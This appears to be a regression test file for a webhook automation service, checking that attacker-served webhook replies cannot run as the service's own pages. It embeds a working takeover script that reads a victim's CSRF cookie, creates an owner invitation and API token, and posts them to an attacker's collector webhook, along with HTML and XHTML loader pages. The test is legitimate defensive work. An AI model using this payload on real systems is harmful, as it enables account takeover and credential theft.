// A webhook's answer comes from hookflow's own address, so it must never run as one of hookflow's
// pages. The attack: the owner of team B makes one flow answer an HTML page that loads a second
// flow's answer as a script; that script reads the CSRF cookie of whoever opens the page, creates
// an owner invitation and an API token in the visitor's team and posts both to a third flow of
// the attacker. Team A's owner, signed in, opens the link. Nothing may happen.
//
// The API refuses page and script types since the fix, so the two replies are written into the
// database directly, as a flow saved before the fix would hold them; a third page answers an
// XHTML document as application/xml, which the API accepts: only the sandbox policy stops that one.
// The answer is a flow's Reply step now: the flows are made as an older client makes them (with
// the reply setting, which the server stores as the step), started so that the step answers, and
// the types written into the step's settings in the database.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import * as h from './harness.mjs';

let server, browser, attacker;
h.withServerAndBrowser(async (s, b) => {
  [server, browser] = [s, b];
  attacker = await joinAndMakeOwnTeam();
});

/** Calls the API with a Bearer token, in a team when one is given. */
const call = (token, method, url, body, team) => h.callApi(server.url, token, method, url, body, team ? { 'X-Hookflow-Team': team } : {});

/** The attacker: invited into team A as a viewer, owner of a team B of their own. */
async function joinAndMakeOwnTeam() {
  const inv = await server.api('POST', '/api/invitations', { role: 'viewer' });
  assert.equal(inv.status, 201, JSON.stringify(inv.body));
  const res = await fetch(server.url + '/api/auth/signup', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ email: 'attacker@example.com', password: 'attacker password 1', invitation: inv.body.token }),
  });
  const text = await res.text();
  assert.equal(res.status, 201, text);
  const token = JSON.parse(text).token;
  const team = await call(token, 'POST', '/api/teams', { name: 'B' });
  assert.equal(team.status, 201, JSON.stringify(team.body));
  return { token, team: team.body.id };
}

const trigger = { schema: 1, nodes: [{ id: 'trigger', kind: 'webhook', config: {} }] };

/** A started flow of team B answering body with contentType; returns it with its address's path. */
async function attackerFlow(name, contentType, body) {
  const res = await call(attacker.token, 'POST', '/api/flows',
    { document: { ...trigger, name }, settings: { reply: { status: 200, content_type: contentType, body } } }, attacker.team);
  assert.equal(res.status, 201, JSON.stringify(res.body));
  assert.equal(res.body.document.nodes[1]?.kind, 'reply', 'the reply setting is stored as a Reply step');
  const started = await call(attacker.token, 'POST', `/api/flows/${res.body.id}/start`, undefined, attacker.team);
  assert.equal(started.status, 200, JSON.stringify(started.body));
  return { ...res.body, hook: new URL(res.body.webhook_url).pathname };
}

/** Writes a flow's answer type into its Reply step in the database, as a flow saved before the fix holds it. */
function storeReplyType(flowId, contentType) {
  const db = path.join(server.dir, 'data', 'hookflow.db');
  const sql = `UPDATE flows SET document = json_set(document, '$.nodes[1].config.content_type', '${contentType}') WHERE id = '${flowId}';`;
  execFileSync('sqlite3', ['-cmd', '.timeout 10000', db, sql]);
}

test('the API refuses page and script types for a webhook answer, naming the setting or the step', async () => {
  for (const contentType of ['text/html', 'application/javascript', 'image/svg+xml']) {
    const res = await call(attacker.token, 'POST', '/api/flows',
      { document: trigger, settings: { reply: { content_type: contentType, body: 'x' } } }, attacker.team);
    assert.equal(res.status, 422, `${contentType}: ${JSON.stringify(res.body)}`);
    assert.equal(res.body.details?.[0]?.field, 'settings.reply.content_type');
    const step = await call(attacker.token, 'POST', '/api/flows', {
      document: { ...trigger, nodes: [...trigger.nodes, { id: 'answer', kind: 'reply', config: { content_type: contentType, body: 'x' } }],
        edges: [{ from: 'trigger', to: 'answer' }] },
    }, attacker.team);
    assert.equal(step.status, 422, `step ${contentType}: ${JSON.stringify(step.body)}`);
    assert.equal(step.body.details?.[0]?.field, 'content_type');
    assert.equal(step.body.details?.[0]?.node, 'answer');
  }
});

test("opening an attacker's webhook page as team A's owner runs nothing and changes nothing", async () => {
  const exfil = await attackerFlow('Collect', 'text/plain', 'thanks');
  const takeover = `(async () => {
  const csrf = decodeURIComponent((document.cookie.match(/(?:^|; )hookflow_csrf=([^;]*)/) || [])[1] || '');
  const headers = { 'Content-Type': 'application/json', 'X-CSRF-Token': csrf };
  const invitation = await (await fetch('/api/invitations', { method: 'POST', headers, body: JSON.stringify({ role: 'owner' }) })).json();
  const token = await (await fetch('/api/tokens', { method: 'POST', headers, body: JSON.stringify({ name: 'backup' }) })).json();
  await fetch('${exfil.hook}', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ invitation, token }) });
})();`;
  const script = await attackerFlow('Script', 'text/plain', takeover);
  const page = await attackerFlow('Page', 'text/plain', `<!doctype html><title>Your report</title><p>Loading…</p><script src="${script.hook}"></script>`);
  const xhtml = await attackerFlow('XML page', 'application/xml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Loading…</p><script src="${script.hook}"></script></body></html>`);
  storeReplyType(script.id, 'application/javascript');
  storeReplyType(page.id, 'text/html; charset=utf-8');

  const count = async () => ({
    invitations: (await server.api('GET', '/api/invitations')).body.invitations.length,
    tokens: (await server.api('GET', '/api/tokens')).body.tokens.length,
  });
  const before = await count();

  // The owner is signed in to the editor, and opens the link (from an email, say) in a new tab.
  const editor = await h.signedInPage(browser, server);
  const victim = await editor.context().newPage();
  const requests = [];
  victim.on('request', (req) => requests.push(`${req.method()} ${new URL(req.url()).pathname}`));

  for (const link of [page.webhook_url, xhtml.webhook_url]) {
    const res = await victim.goto(link);
    const headers = res.headers();
    assert.match(headers['content-security-policy'], /^sandbox; default-src 'none'/, `${link}: policy`);
    assert.equal(headers['x-content-type-options'], 'nosniff');
    assert.doesNotMatch(headers['content-type'], /html|javascript/, `${link}: served as ${headers['content-type']}`);
    // Had the page's script run, its three requests would follow one another at once.
    await victim.waitForLoadState('networkidle');
  }
  // Team A gained no invitation and the owner no API token; the attacker's collector got nothing.
  assert.deepEqual(await count(), before, "team A's invitations and its owner's API tokens");
  const samples = await call(attacker.token, 'GET', `/api/flows/${exfil.id}/samples`, undefined, attacker.team);
  assert.equal(samples.status, 200);
  assert.deepEqual(samples.body.samples, [], "requests received by the attacker's collector");
  // The script is not even fetched: a sandboxed document without scripts does not load them.
  const api = requests.filter((r) => r.includes('/api/') || r.includes(exfil.hook) || r.includes(script.hook));
  assert.deepEqual(api, [], 'requests made by the opened pages');
});
